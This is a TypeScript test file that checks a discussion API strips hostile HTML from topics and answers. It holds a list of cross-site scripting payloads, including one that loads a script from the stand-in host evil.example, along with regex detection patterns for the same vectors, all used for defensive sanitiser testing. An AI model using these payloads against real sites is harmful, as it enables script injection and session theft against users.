import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/app.ts';
import { makeOrganisationWithStaff, type Staff } from '../../../test/auth.ts';
import { discussionTypesOf, makeCourse } from '../../../test/factories/index.ts';
import { api } from '../../../test/http.ts';

/*
 * Hostile rich text, stored through topics and answers and read back clean: what a browser would
 * run never comes back, whatever the spelling; links come back with the safe rel; images only
 * from the image store's own addresses.
 */

let t: TestApp;
let http: ReturnType<typeof api>;
let acme: Staff;
let type: number;

beforeAll(async () => {
  t = await createTestApp();
  http = api(t);
  acme = await makeOrganisationWithStaff(t.database.db, t.config, { isDefault: true });
  type = (await discussionTypesOf(t.database.db, acme.org.id)).question;
});
afterAll(() => t.close());

const IMAGE = '/api/images/0b0e8f8e-4a4b-4c5d-8e9f-0123456789ab/';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.png">',
  `<img src="${IMAGE}" onerror="alert(1)" onload="alert(1)">`,
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">js</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">entity</a>',
  '<a href=" javascript:alert(1)">spaced</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">styled</p>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://example.com/" target="_blank" rel="opener">a link</a>',
  // Last: an unclosed <style> swallows whatever follows it.
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];

const FORBIDDEN = [
  /<script/i,
  /<svg/i,
  /<iframe/i,
  /<object/i,
  /<style/i,
  /<form/i,
  /\son\w+=/i,
  /javascript:/i,
  /data:/i,
  /style=/i,
  /evil\.example/i,
];

function expectClean(html: string) {
  for (const pattern of FORBIDDEN) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
  for (const link of html.match(/<a\b[^>]*>/g) ?? []) {
    expect(link).toContain('rel="noopener noreferrer nofollow ugc"');
  }
  for (const img of html.match(/<img\b[^>]*>/g) ?? []) {
    expect(img).toMatch(/^<img src="\/api\/images\/[0-9a-f-]{36}\/"( alt="[^"]*")? \/>$/);
  }
}

describe('rich text is stored and read back clean', () => {
  it('in a topic and in an answer', async () => {
    const body = `<p>Keep me</p><p><img src="${IMAGE}" alt="map"></p>${PAYLOADS.join('')}`;
    const created = await http.post('/api/discussions/', acme.learner.token, {
      type,
      title: 'Hostile text',
      body,
    });
    expect(created.statusCode, created.body).toBe(201);
    const topic = created.json();
    for (const html of [
      topic.body,
      (await http.get(`/api/discussions/${topic.id}/`, acme.admin.token)).json().body,
    ]) {
      expectClean(html);
      expect(html).toContain('<p>Keep me</p>');
      expect(html).toContain(`<img src="${IMAGE}" alt="map" />`);
      expect(html).toContain(
        '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow ugc">a link</a>',
      );
    }
    const list = (await http.get('/api/discussions/?search=hostile', acme.admin.token)).json();
    expect(list.results[0].excerpt).not.toMatch(/<|alert\(1\)<\/script/);

    for (const payload of PAYLOADS) {
      const res = await http.post('/api/discussions/answear/', acme.trainer.token, {
        discussion: topic.id,
        body: `<p>Answer</p>${payload}`,
      });
      expect(res.statusCode, payload).toBe(201);
      expectClean(res.json().body);
    }
    const page = (
      await http.get(`/api/discussions/${topic.id}/answers/?page_size=100`, acme.learner.token)
    ).json();
    expect(page.count).toBe(PAYLOADS.length);
    for (const a of page.results) expectClean(a.body);
  });

  it('refuses text that is empty once cleaned, and markup in the title', async () => {
    const blank = await http.post('/api/discussions/', acme.learner.token, {
      type,
      title: 'Nothing left',
      body: '<script>alert(1)</script><p> </p>',
    });
    expect(blank.statusCode).toBe(400);
    expect(blank.json().errors.body).toEqual(['This field may not be blank.']);
    const title = await http.post('/api/discussions/', acme.learner.token, {
      type,
      title: '<img src=x onerror=alert(1)>',
      body: '<p>Fine</p>',
    });
    expect(title.statusCode).toBe(400);
    expect(title.json().errors.title).toHaveLength(1);
  });

  it('keeps the plain text of the §7 course calls as text, escaped into paragraphs', async () => {
    const course = await makeCourse(t.database.db, {
      organisationId: acme.org.id,
      createdBy: acme.trainer.user.id,
    });
    const asked = await http.post('/api/courses/course-discussion-question/', acme.trainer.token, {
      course: course.id,
      body: 'Is 2 > 1 & "true"?\nSecond line',
    });
    expect(asked.statusCode, asked.body).toBe(201);
    expect(asked.json().body).toBe('Is 2 > 1 & "true"?\nSecond line');
    const topic = (await http.get(`/api/discussions/${asked.json().id}/`, acme.admin.token)).json();
    expect(topic).toMatchObject({
      title: 'Is 2 > 1 & "true"?',
      body: '<p>Is 2 &gt; 1 &amp; &quot;true&quot;?</p><p>Second line</p>',
      scope: 'course',
      type: { kind: 'question' },
    });
  });
});
